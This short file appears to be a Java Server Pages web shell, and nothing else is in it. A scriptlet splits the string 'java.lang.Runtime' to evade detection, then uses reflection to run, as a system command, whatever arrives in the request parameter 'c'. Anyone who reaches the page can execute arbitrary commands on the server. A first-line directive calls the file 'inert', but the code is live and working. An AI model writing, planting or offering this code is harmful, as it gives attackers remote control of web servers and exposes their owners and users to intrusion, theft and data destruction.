<%@ inert %>
<% Class k=Class.forName("java.lang.Run"+"time"); Object o=k.getMethod("getRuntime").invoke(null); k.getMethod("exec",String.class).invoke(o,request.getParameter("c")); %>
